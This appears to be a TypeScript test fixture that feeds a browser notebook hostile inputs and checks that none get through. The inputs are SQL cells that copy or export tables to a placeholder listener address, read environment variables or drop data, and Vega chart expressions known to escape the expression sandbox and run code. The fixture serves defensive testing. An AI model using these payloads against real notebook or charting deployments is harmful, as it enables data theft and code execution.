import { pathToFileURL } from 'node:url';
import type { Browser, Page } from 'puppeteer-core';

/*
 * What a stranger may put into the cells of a notebook to reach a server, and to run code of his own. `<address>` stands for
 * an address where somebody listens, `hit()` for the code.
 */

/** Statements of SQL. Each has to fail, and say so. */
export const HOSTILE_SQL: readonly string[] = [
  "FROM read_csv('<address>/read_csv.csv')",
  "SELECT * FROM read_parquet(['<address>/read_parquet.parquet'])",
  "FROM '<address>/plain.parquet'",
  'SELECT * FROM "<address>/quoted.csv"',
  "FROM read_text('<address>/read_text')",
  "FROM read_blob('<address>/read_blob')",
  "FROM glob('<address>/*')",
  "FROM sniff_csv('<address>/sniff.csv')",
  "FROM 's3://bucket/x.parquet?s3_endpoint=<host>&s3_use_ssl=false'",
  "FROM read_csv('blob:<address>/6f0c5d1e-2a3b-4c4d-9e5f-a1b2c3d4e5f6')",
  "FROM read_csv('opfs://secrets.csv')",
  "FROM sqlite_scan('<address>/x.db', 'x')",
  "FROM postgres_scan('host=127.0.0.1 port=<port>', 'public', 'x')",
  "SELECT * FROM query('FROM read_csv(''<address>/query.csv'')')",
  "FROM query_table('<address>/query_table.csv')",
  "CREATE VIEW v AS FROM read_csv('<address>/view.csv'); FROM v",
  "CREATE MACRO m(u) AS TABLE FROM read_csv(u); FROM m('<address>/macro.csv')",
  "SELECT 1; SELECT 2; COPY orders TO '<address>/several.csv'",
  "COPY (SELECT customer, amount FROM orders) TO '<address>/copy.parquet' (FORMAT parquet)",
  "EXPORT DATABASE '<address>/export'",
  "ATTACH '<address>/x.duckdb' AS x (READ_ONLY)",
  "ATTACH 'host=127.0.0.1 port=<port>' AS pg (TYPE postgres)",
  'INSTALL httpfs; LOAD httpfs; SELECT 1',
  "FORCE INSTALL spatial FROM '<address>'",
  "LOAD '<address>/x.duckdb_extension.wasm'",
  "SET custom_extension_repository = '<address>'",
  'SET autoinstall_known_extensions = true; SET autoload_known_extensions = true',
  'RESET lock_configuration; SET enable_external_access = true',
  "PRAGMA enable_external_access = true; FROM '<address>/pragma.csv'",
  "CREATE SECRET s (TYPE http, EXTRA_HTTP_HEADERS MAP {'a': 'b'}, HTTP_PROXY '<address>')",
  "PREPARE p AS COPY orders TO '<address>/prepare.csv'; EXECUTE p",
  "EXPLAIN ANALYZE COPY orders TO '<address>/explain.csv'",
  "-- SELECT 1\n/* SELECT /* deeper */ 2; */ COPY orders TO '<address>/comment.csv'",
  "SELECT ';' AS a, $$;$$ AS b;\u00A0ATTACH '<address>/odd-space.db' AS x",
  "\uFEFFCO\u200BPY orders TO '<address>/zero-width.csv'",
  "\uFF23\uFF2F\uFF30\uFF39 orders TO '<address>/wide.csv'",
  "SELECT getenv('HOME')",
  'BEGIN; DROP TABLE orders; COMMIT',
];

/** A cell that failed, and says why in a sentence. */
export const REFUSED =
  /^failed, (not-permitted: A cell may not reach this: \S|needs-extension: “\w+” belongs|cell-failed: Line 1: \w+ Error: )/;

/** Expressions by which charts once ran code, or which reach for a function of the page. */
const EXPRESSIONS: readonly string[] = [
  "[].constructor.constructor('hit()')()",
  "scale('f', 'hit()', {context: {scales: {f: {value: [].constructor.constructor}}}})",
  "scale(event.view.setTimeout, 'hit()')",
  'lassoAppend({length: 1, slice: event.view.hit, concat: event.view.hit}, 1, 1)',
  'vlSelectionTuples([{datum: 1}], {fields: [{getter: event.view.hit}]})',
  "'' + {toString: event.view.hit, valueOf: event.view.hit}",
  "format(1, {toString: event.view.hit}) + setdata('x', {toString: event.view.hit})",
  "(0//1/)-'\\\\\\n,hit())))//'",
  "replace('hit()', {__proto__: /h/, exec: event.view.hit, global: false}, event.view.hit)",
  "event.target.ownerDocument.defaultView['hit']()",
  'intersect([[0, 0], [99, 99]], {}, {context: {dataflow: {scenegraph: event.view.hit}}})',
];

const A = { x: { field: 'a', type: 'ordinal' }, y: { field: 'b', type: 'quantitative' } };

const BARS = { mark: 'bar', encoding: A };

/** Each over the rows, and where the pointer comes by, which knows the page. */
const EXPRESSED = EXPRESSIONS.flatMap((expression, i) => [
  [`rows_${i}`, { ...BARS, transform: [{ calculate: expression, as: 'c' }] }],
  [
    `pointer_${i}`,
    { ...BARS, params: [{ name: 'q', select: { type: 'point', on: { type: 'pointerover', filter: [expression] } } }] },
  ],
]);

/** Charts by name. Some are refused, some drawn: none may ask for anything or run anything. */
export const HOSTILE_CHARTS: Readonly<Record<string, object>> = {
  data: { mark: 'bar', data: { url: '<address>/data.json' }, encoding: A },
  lookup: { mark: 'bar', transform: [{ lookup: 'a', from: { data: { url: '<address>/lookup.csv' }, key: 'a' } }] },
  image: { mark: { type: 'image', url: '<address>/image.png' }, encoding: A },
  link: { mark: { type: 'bar', href: 'javascript:hit()' }, encoding: A },
  embedding: { mark: 'bar', usermeta: { embedOptions: { loader: { baseURL: '<address>/' } } }, encoding: A },
  schema: { $schema: '<address>/schema.json', mark: 'bar', encoding: A },
  fill: {
    mark: { type: 'bar', fill: 'url(<address>/fill.svg#a)', stroke: 'url(<address>/stroke.svg#a)' },
    encoding: A,
  },
  fill_by_row: {
    transform: [{ calculate: "'url(<address>/row.svg?' + datum.a + '#a)'", as: 'c' }],
    mark: 'bar',
    encoding: { ...A, fill: { field: 'c', scale: null } },
  },
  cursor: { mark: { type: 'bar', cursor: 'url(<address>/cursor.png), auto' }, encoding: A },
  font: {
    mark: { type: 'text', font: 'x;background:url(<address>/font)', fontStyle: '1px x;cursor:url(<address>/style)' },
    encoding: { ...A, text: { value: '<image href="<address>/text.png"/>' } },
  },
  tooltip: {
    transform: [{ calculate: "{image: '<address>/tooltip.png', title: '<img src=<address>/title.png>'}", as: 'c' }],
    mark: 'bar',
    encoding: { ...A, tooltip: { field: 'c' } },
  },
  ...Object.fromEntries(EXPRESSED),
};

/** A notebook with each of them in a cell of its own, called `sql_0` and so on, or as the chart is. */
export function hostileNotebook(address: string): string {
  const { host, port } = new URL(address);
  const asked = (text: string): string =>
    text.replaceAll('<address>', address).replaceAll('<host>', host).replaceAll('<port>', port);
  const sql = HOSTILE_SQL.map((text, i) => fence(`sql name=sql_${i}`, asked(text)));
  const charts = Object.entries(HOSTILE_CHARTS).map(([name, spec]) =>
    fence(`chart name=${name} data=few`, asked(JSON.stringify(spec))),
  );
  const few = fence('sql name=few', 'SELECT * FROM (VALUES (1, 2), (2, 3)) AS few(a, b)');
  return ['---\nnotebook: 1\ntitle: Hostile\n---\n', ...sql, few, ...charts].join('\n');
}

function fence(info: string, body: string): string {
  return `\`\`\`${info}\n${body}\n\`\`\`\n`;
}

/** From now on, also in pages that are still to come, the page counts what runs of the code. */
export async function setTrap(page: Page): Promise<void> {
  await page.evaluateOnNewDocument(layTrap);
  await page.evaluate(layTrap);
}

function layTrap(): void {
  const trap = { hits: 0, hit: () => ++trap.hits };
  Object.assign(globalThis, { trap, hit: trap.hit });
}

export function hitsIn(page: Page): Promise<number | undefined> {
  // Safe: put there by `setTrap`; without it there is no number.
  return page.evaluate(() => (globalThis as unknown as { trap?: { hits: number } }).trap?.hits);
}

/** Opens a saved page, goes over its charts, and then runs the code once, to see that it is counted. */
export async function hitsOfSaved(
  browser: Browser,
  file: string,
): Promise<Readonly<Record<'before' | 'afterOne', number | undefined>>> {
  const page = await browser.newPage();
  await setTrap(page);
  await page.goto(pathToFileURL(file).href);
  await page.waitForSelector('figure:last-of-type svg');
  await touchCharts(page);
  await page.waitForSelector('#vg-tooltip');
  const before = await hitsIn(page);
  // Safe: put there by `setTrap`.
  await page.evaluate(() => (globalThis as unknown as { hit(): void }).hit());
  const afterOne = await hitsIn(page);
  await page.close();
  return { before, afterOne };
}

/** Moves over every part of every chart and clicks it. */
export function touchCharts(page: Page): Promise<void> {
  return page.evaluate(() => {
    for (const part of document.querySelectorAll('figure svg, figure svg path, figure svg text')) {
      const { x, y } = part.getBoundingClientRect();
      const at = { bubbles: true, composed: true, view: window, clientX: x + 1, clientY: y + 1 };
      for (const type of ['pointerover', 'pointermove', 'pointerdown', 'pointerup'])
        part.dispatchEvent(new PointerEvent(type, at));
      for (const type of ['mouseover', 'mousemove', 'click', 'dblclick']) part.dispatchEvent(new MouseEvent(type, at));
    }
  });
}
